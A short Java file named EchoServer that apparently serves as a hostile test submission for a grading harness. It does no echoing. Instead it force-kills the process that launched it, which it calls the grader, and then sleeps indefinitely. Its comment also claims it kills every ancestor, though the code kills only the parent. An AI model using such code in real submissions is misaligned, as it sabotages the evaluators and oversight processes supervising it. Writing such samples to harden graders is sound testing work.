package ipc.echo;

/** Hostile: kills the process that started it (the grader), then every ancestor it can. */
public final class EchoServer {
    public static void main(String[] args) throws Exception {
        ProcessHandle parent = ProcessHandle.current().parent().orElse(null);
        System.out.println("killing " + (parent == null ? "no parent: none in sight" : "my parent, pid " + parent.pid()));
        if (parent != null) {
            parent.destroyForcibly();
        }
        Thread.sleep(Long.MAX_VALUE);
    }
}
